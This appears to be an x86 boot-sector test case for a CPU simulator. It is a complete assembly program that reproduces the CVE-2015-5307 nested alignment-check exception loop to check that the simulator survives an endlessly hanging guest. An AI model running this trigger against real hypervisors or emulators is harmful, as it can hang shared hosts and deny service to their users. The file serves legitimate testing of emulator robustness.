/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * ac-attack - 512 bytes that hang a processor: nested #AC in root operation, no VMX at all.
 *
 * Claim:    the simulator is not harmed by a guest whose event delivery never ends (Bochs 3.0
 *           recurses until its stack overflows): simulated time passes, and the run ends by the
 *           hang limit.
 * Manual:   SDM Vol. 3A, "Interrupt 17 - Alignment check exception"; CVE-2015-5307.
 * Expected: verdict "hung". It has no output and no way to tell anything itself: it must never get
 *           past the load.
 *
 * Boot sector: protected mode without paging, CPL 3, CR0.AM and EFLAGS.AC set, IDT[17] is a 32-bit
 * interrupt gate to ring 3, ESP is 1 modulo 4; then one misaligned load.
 */
#define IDT_ADDRESS     0x5000
#define STACK           0x6001
#define EFLAGS_AC       (1 << 18)

	.code16
	.text
	.globl _start
_start:
	cli
	ljmp $0, $1f
1:	xor %ax, %ax
	mov %ax, %ds
	mov %ax, %es
	mov %ax, %ss
	mov $0x7c00, %sp
	cld
	mov $IDT_ADDRESS, %di           /* 18 gates, all zero but the last */
	mov $(18 * 8 / 2), %cx
	rep stosw
	movw $handler, IDT_ADDRESS + 17 * 8
	movw $0x1b, IDT_ADDRESS + 17 * 8 + 2
	movw $0xee00, IDT_ADDRESS + 17 * 8 + 4
	lgdt gdtr
	lidt idtr
	mov %cr0, %eax
	or $((1 << 18) | 1), %eax       /* AM, PE */
	mov %eax, %cr0
	ljmp $0x08, $protected

	.code32
protected:
	mov $0x23, %eax
	mov %eax, %ds
	mov %eax, %es
	push $0x23                      /* SS, ESP, EFLAGS, CS, EIP of the attacker */
	push $STACK
	push $(EFLAGS_AC | 2)
	push $0x1b
	push $attack
	iret

attack:
	mov STACK, %eax
handler:
	jmp handler

	.balign 8
gdt:
	.quad 0
	.quad 0x00cf9b000000ffff        /* 0x08: code, DPL 0 */
	.quad 0x00cf93000000ffff        /* 0x10: data, DPL 0 */
	.quad 0x00cffb000000ffff        /* 0x18: code, DPL 3 */
	.quad 0x00cff3000000ffff        /* 0x20: data, DPL 3 */
gdtr:
	.word . - gdt - 1
	.long gdt
idtr:
	.word 18 * 8 - 1
	.long IDT_ADDRESS
	.org 510
	.word 0xaa55
